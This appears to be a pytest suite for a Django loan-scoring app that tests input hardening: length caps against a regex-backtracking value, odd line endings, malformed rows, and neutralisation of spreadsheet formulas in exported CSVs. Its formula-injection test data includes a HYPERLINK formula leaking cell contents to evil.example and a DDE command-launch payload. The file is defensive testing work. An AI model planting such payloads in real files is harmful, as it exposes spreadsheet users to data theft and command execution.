"""Hostile and careless input (issue 13): huge values, formulas, odd line endings, malformed rows.

Every entry point that takes applicant data — the API, ``/predict/``, the score form, a batch
upload, ``score_csv`` and ``import_loans`` — refuses a value longer than the parsers' cap before it
reads it ("too long (100,000 characters; at most 100)": the cap, not the parser, answered), and
echoes bad values cut short. Every CSV the product writes neutralises cells a spreadsheet would run.
"""

import csv
import io
import json
from io import StringIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command

from applicants.attributes import ATTRIBUTE_FIELDS, CATEGORY_FIELDS
from applicants.models import Applicant
from applicants.parsing import MAX_TEXT_CHARS
from nplsite.csv_export import write_csv
from scoring.models import Prediction
from tests.conftest import wait_until
from tests.support import VALID_APPLICANT
from tests.web.conftest import VALID_FORM
from tests.web.pagecheck import text_of

pytestmark = pytest.mark.django_db

HUGE = 100_000
TOO_LONG = f"too long ({HUGE:,} characters; at most {MAX_TEXT_CHARS})"
# The pattern that made the old rupiah and count expressions backtrack for seconds.
BACKTRACKING = "-" + " " * (HUGE - 2) + "x"
HEADER = "app_id," + ",".join(ATTRIBUTE_FIELDS)
GOOD_ROW = "2001,Rp12000000.0,milik sendiri,1 orang,8 tahun,Rp150000000.0,Nikah,PNS,24,Rp60000000.0"
SECOND_ROW = "2002,Rp 4.250.000,kontrak,1,0,Rp 200.000.000,Nikah,Wiraswasta,12,Rp 20.000.000"


def post_json(client, path, body):
    return client.post(path, data=json.dumps(body), content_type="application/json")


def row_with(field: str, value: str) -> str:
    cells = GOOD_ROW.split(",")
    cells[1 + ATTRIBUTE_FIELDS.index(field)] = value
    return ",".join(cells)


def upload(client, text: str, name: str = "loans.csv"):
    return client.post("/batch/", {"file": SimpleUploadedFile(name, text.encode(), content_type="text/csv")})


def job_errors(client, job_url: str) -> list[dict]:
    download = client.get(job_url + "errors.csv")
    assert download.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode())))


# ---------------------------------------------------------------------------------------------
# 1. Huge values: refused by the length cap before any parser reads them


@pytest.mark.parametrize("field", ATTRIBUTE_FIELDS)
@pytest.mark.parametrize("path", ["/api/v1/score", "/api/v1/score/batch", "/predict/"])
def test_a_huge_value_in_any_api_field_is_refused_unread(analyst_client, active_version, path, field):
    item = {**VALID_APPLICANT, field: BACKTRACKING}
    response = post_json(analyst_client, path, {"applicants": [item]} if path.endswith("batch") else item)
    assert response.status_code == 400
    body = response.json()
    message = body["error_msg"] if path == "/predict/" else json.dumps(body, ensure_ascii=False)
    assert TOO_LONG in message
    assert len(response.content) < 2_000  # the value is not echoed back
    assert Prediction.objects.count() == 0


def test_thousands_of_unknown_fields_give_a_bounded_answer(analyst_client, active_version):
    item = {**VALID_APPLICANT, **{f"field_{number}": 1 for number in range(10_000)}, "k" * HUGE: 1}
    response = post_json(analyst_client, "/api/v1/score", item)
    assert response.status_code == 400
    errors = response.json()["errors"]
    assert len(errors) <= 11 and "9991 more unknown fields." in errors["non_field_errors"]  # 10,001 unknown, 10 named
    assert len(response.content) < 10_000


@pytest.mark.parametrize("field", [*ATTRIBUTE_FIELDS, "app_id"])
def test_a_huge_value_in_any_form_field_is_refused_unread(analyst_client, active_version, field):
    form = {**VALID_FORM, "save_applicant": "on", "app_id": "5", field: BACKTRACKING}
    response = analyst_client.post("/score/", form)
    assert response.status_code == 400
    assert TOO_LONG in text_of(response) or (field in CATEGORY_FIELDS and "unknown value" in text_of(response))
    assert Prediction.objects.count() == 0


@pytest.mark.parametrize("field", ATTRIBUTE_FIELDS)
def test_a_huge_cell_in_a_batch_file_is_a_row_error(analyst_client, active_version, upload_dir, field):
    job_url = upload(analyst_client, "\n".join([HEADER, row_with(field, BACKTRACKING), SECOND_ROW]) + "\n")["Location"]
    errors = job_errors(analyst_client, job_url)
    assert [(e["line"], e["column"]) for e in errors] == [("2", field)]
    assert TOO_LONG in errors[0]["reason"] and len(errors[0]["value"]) <= MAX_TEXT_CHARS
    assert Prediction.objects.filter(channel="batch").count() == 1  # 2002 is still scored


def test_a_huge_cell_in_an_imported_file_is_a_row_error(tmp_path):
    header = "app_id,due_date,paid_date,due_amount,paid_amount," + ",".join(ATTRIBUTE_FIELDS)
    book = tmp_path / "book.csv"
    book.write_text(f"{header}\n1,2024-01-05,,Rp0.0,{BACKTRACKING},{GOOD_ROW.split(',', 1)[1]}\n", encoding="utf-8")
    report = tmp_path / "report.csv"
    call_command("import_loans", str(book), "--report", str(report), stdout=StringIO())
    rows = list(csv.DictReader(report.open(encoding="utf-8")))
    assert [(r["line"], r["column"]) for r in rows] == [("2", "paid_amount")] and TOO_LONG in rows[0]["reason"]
    assert not Applicant.objects.exists()


# ---------------------------------------------------------------------------------------------
# 3. Inline or background: rows as the CSV reader sees them, and the size


def test_a_file_with_carriage_returns_only_is_counted_by_its_rows(analyst_client, active_version, upload_dir, settings):
    settings.BATCH_INLINE_MAX_ROWS = 2
    rows = [GOOD_ROW, SECOND_ROW, GOOD_ROW.replace("2001", "2003")]
    job_url = upload(analyst_client, "\r".join([HEADER, *rows]) + "\r")["Location"]
    status = analyst_client.get(job_url + "status.json").json()
    assert (status["status"], status["rows"]) == ("queued", 3)  # left to the worker, not scored in the request
    assert Prediction.objects.count() == 0


def test_a_file_over_the_inline_size_goes_to_the_worker_uncounted(analyst_client, active_version, upload_dir, settings):
    settings.BATCH_INLINE_MAX_BYTES = 100
    job_url = upload(analyst_client, "\n".join([HEADER, GOOD_ROW]) + "\n")["Location"]
    assert analyst_client.get(job_url + "status.json").json()["status"] == "queued"
    assert Prediction.objects.count() == 0


def test_carriage_return_line_endings_are_read_like_any_other(analyst_client, active_version, upload_dir):
    job_url = upload(analyst_client, "\r".join([HEADER, GOOD_ROW, SECOND_ROW]) + "\r")["Location"]
    assert "Applications scored 2" in text_of(analyst_client.get(job_url))


# ---------------------------------------------------------------------------------------------
# 5. Formula injection: every CSV the product writes neutralises formulas, numbers stay numbers

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-2+3"]


def assert_neutral(rows: list[dict]) -> None:
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value.lstrip("-").replace(".", "", 1).isdigit(), value


def formula_file() -> str:
    rows = [f'"{formula.replace(chr(34), chr(34) * 2)}",' + GOOD_ROW.split(",", 1)[1] for formula in FORMULAS]
    rows.append(row_with("housing_type", "=1+1"))
    rows.append(SECOND_ROW)
    return "\n".join([HEADER, *rows]) + "\n"


def test_batch_reports_carry_no_formula(analyst_client, active_version, upload_dir):
    job_url = upload(analyst_client, formula_file())["Location"]
    errors = job_errors(analyst_client, job_url)
    assert {e["app_id"] for e in errors} >= {"'" + formula for formula in FORMULAS}
    assert "'=1+1" in {e["value"] for e in errors}
    assert_neutral(errors)
    scored = analyst_client.get(job_url + "scored.csv")
    assert_neutral(list(csv.DictReader(io.StringIO(b"".join(scored.streaming_content).decode()))))


def test_score_csv_output_and_report_carry_no_formula(active_version, tmp_path):
    source, out, report = tmp_path / "in.csv", tmp_path / "out.csv", tmp_path / "report.csv"
    source.write_text(formula_file(), encoding="utf-8")
    call_command("score_csv", str(source), str(out), "--report", str(report), stdout=StringIO())
    errors = list(csv.DictReader(report.open(encoding="utf-8")))
    assert "'@SUM(1+1)" in {e["app_id"] for e in errors}
    assert_neutral(errors)
    assert_neutral(list(csv.DictReader(out.open(encoding="utf-8"))))


def test_import_report_carries_no_formula(tmp_path):
    header = "app_id,due_date,paid_date,due_amount,paid_amount," + ",".join(ATTRIBUTE_FIELDS)
    book, report = tmp_path / "book.csv", tmp_path / "report.csv"
    book.write_text(f"{header}\n1,=1+1,,-Rp5,@x,{GOOD_ROW.split(',', 1)[1]}\n", encoding="utf-8")
    call_command("import_loans", str(book), "--report", str(report), stdout=StringIO())
    errors = list(csv.DictReader(report.open(encoding="utf-8")))
    assert {e["value"] for e in errors} == {"'=1+1", "'-Rp5", "'@x"}
    assert_neutral(errors)


def test_numbers_the_product_writes_stay_numbers():
    out = StringIO()
    write_csv(out, [[-5, -0.25, "-5", "=1"]], ["a", "b", "c", "d"])
    assert out.getvalue().splitlines()[1] == "-5,-0.25,'-5,'=1"


# ---------------------------------------------------------------------------------------------
# 9. A header field longer than the CSV module's limit: a file error in words


GIANT_HEADER = HEADER + "," + "x" * 140_000


def test_a_giant_header_fails_the_batch_job_in_words(analyst_client, active_version, upload_dir):
    job_url = upload(analyst_client, f"{GIANT_HEADER}\n{GOOD_ROW},1\n")["Location"]
    text = text_of(analyst_client.get(job_url))
    assert "The file could not be scored." in text and "loans.csv: the header (line 1) is longer than" in text
    assert "unexpectedly" not in text and "Error" not in text


@pytest.mark.parametrize("command", ["score_csv", "import_loans"])
def test_a_giant_header_stops_the_commands_in_words(active_version, tmp_path, command):
    source = tmp_path / "in.csv"
    source.write_text(f"{GIANT_HEADER}\n{GOOD_ROW},1\n", encoding="utf-8")
    arguments = [str(source), str(tmp_path / "out.csv")] if command == "score_csv" else [str(source)]
    with pytest.raises(CommandError, match=r"in.csv: the header \(line 1\) is longer than 4,096 characters"):
        call_command(command, *arguments, stdout=StringIO())


# ---------------------------------------------------------------------------------------------
# 10. One extra field on the first data row shifts nothing


def test_an_extra_field_on_the_first_row_is_reported_on_its_own_line(analyst_client, active_version, upload_dir):
    job_url = upload(analyst_client, "\n".join([HEADER, GOOD_ROW + ",oops", SECOND_ROW]) + "\n")["Location"]
    errors = job_errors(analyst_client, job_url)
    assert [(e["line"], e["app_id"], e["column"], e["value"]) for e in errors] == [("2", "2001", "", "oops")]
    assert "more values than the header has columns" in errors[0]["reason"]
    assert list(Prediction.objects.values_list("input_attributes__housing_type", flat=True)) == ["kontrak"]


# ---------------------------------------------------------------------------------------------
# Issue 15: semicolons, the template, labels and Indonesian numbers in messages


def test_a_semicolon_separated_file_is_read_as_such(analyst_client, active_version, upload_dir):
    rows = [SECOND_ROW.replace(",", ";"), "2005;Rp9.295.094,00;kos;0;1;Rp120.000.000,00;Nikah;PNS;12;Rp0"]
    job_url = upload(analyst_client, "\n".join([HEADER.replace(",", ";"), *rows]) + "\n")["Location"]
    assert "Applications scored 2" in text_of(analyst_client.get(job_url))


def test_the_template_file_is_a_valid_batch(analyst_client, active_version, upload_dir):
    template = analyst_client.get("/batch/template.csv")
    assert template.status_code == 200 and 'filename="batch-template.csv"' in template["Content-Disposition"]
    text = template.content.decode()
    assert text.splitlines()[0] == HEADER and len(text.splitlines()) == 2
    job_url = upload(analyst_client, text, name="template.csv")["Location"]
    assert "Applications scored 1" in text_of(analyst_client.get(job_url))


def test_messages_use_labels_and_indonesian_numbers(analyst_client, active_version):
    form = {**VALID_FORM, "otr": "300000000", "dp": "400000000", "lama_bekerja": "-2"}
    english = text_of(analyst_client.post("/score/", form))
    assert "Down payment of Rp 400,000,000 is larger than Vehicle price (OTR) of Rp 300,000,000" in english
    assert "Years in current job must not be negative, got -2" in english
    assert "lama_bekerja" not in english and "otr (" not in english
    analyst_client.cookies["django_language"] = "id"
    indonesian = text_of(analyst_client.post("/score/", form))
    assert "Rp 400.000.000" in indonesian and "Rp 300.000.000" in indonesian
    assert (
        "Uang muka sebesar Rp 400.000.000 lebih besar daripada Harga kendaraan (OTR) sebesar Rp 300.000.000"
        in indonesian
    )
    assert "Lama bekerja (tahun) tidak boleh negatif, diterima -2" in indonesian and "lama_bekerja" not in indonesian


def test_errors_of_a_finished_batch_page_through_every_line(analyst_client, active_version, upload_dir):
    bad = [row_with("tenor", "x").replace("2001", str(3000 + number)) for number in range(60)]
    job_url = upload(analyst_client, "\n".join([HEADER, *bad, SECOND_ROW]) + "\n")["Location"]
    wait_until(lambda: "Page 1 of 2" in text_of(analyst_client.get(job_url)), timeout=5)
    second = text_of(analyst_client.get(job_url + "?errors_page=2"))
    assert "61 3059 Tenor (months) x" in second and "3000 " not in second
